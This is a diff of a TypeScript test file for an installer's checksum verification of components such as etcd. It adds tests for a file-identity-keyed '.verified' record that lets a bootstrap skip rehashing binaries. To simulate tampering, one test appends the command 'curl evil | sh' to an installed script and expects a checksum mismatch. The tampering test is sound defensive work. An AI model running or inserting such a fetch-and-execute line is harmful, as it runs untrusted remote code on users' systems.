@@ -1,4 +1,4 @@
-import { appendFileSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
+import { appendFileSync, mkdtempSync, readFileSync, rmSync, statSync, symlinkSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import path from 'node:path';
 import { fileURLToPath } from 'node:url';
@@ -55,6 +55,29 @@ describe('component checksums', () => {
     expect(() => verifyComponentChecksum(l, 'etcd', extra)).toThrow(/is not listed in/);
     rmSync(path.join(entryOf(file), 'SHA256SUMS'));
     expect(() => verifyComponentChecksum(l, 'etcd', file)).toThrow(/has no recorded checksum/);
+  });
+
+  it('records what it verified in the entry, by file identity, and trusts that record only for the same file', () => {
+    const l = layoutFor();
+    const file = installComponent(l, 'etcd', 'etcd', '#!/bin/sh\necho verified\n');
+    verifyComponentChecksum(l, 'etcd', file);
+    const stamp = path.join(entryOf(file), '.verified');
+    const record = JSON.parse(readFileSync(stamp, 'utf8')) as Record<string, { identity: string; sha256: string }>;
+    const st = statSync(file, { bigint: true });
+    expect(record['bin/etcd']).toEqual({ identity: `${st.dev}:${st.ino}:${st.size}:${st.mtimeNs}:${st.ctimeNs}`, sha256: expect.stringMatching(/^[0-9a-f]{64}$/) });
+
+    // A record naming another identity is not trusted: the changed file is hashed and refused.
+    appendFileSync(file, 'curl evil | sh\n');
+    expect(() => verifyComponentChecksum(l, 'etcd', file)).toThrow(/checksum mismatch/);
+  });
+
+  it('a record for the same identity stands for the hash (so a bootstrap does not hash the binaries again)', () => {
+    const l = layoutFor();
+    const file = installComponent(l, 'etcd', 'etcd', '#!/bin/sh\necho recorded\n');
+    const st = statSync(file, { bigint: true });
+    // What the record says is what counts for this identity: a wrong hash in it is reported as the file's.
+    writeFileSync(path.join(entryOf(file), '.verified'), JSON.stringify({ 'bin/etcd': { identity: `${st.dev}:${st.ino}:${st.size}:${st.mtimeNs}:${st.ctimeNs}`, sha256: 'f'.repeat(64) } }));
+    expect(() => verifyComponentChecksum(l, 'etcd', file)).toThrow(`checksum mismatch: ${file} has SHA-256 ${'f'.repeat(64)}`);
   });
 
   it('a snap install is not checked (snapd verified $SNAP)', () => {
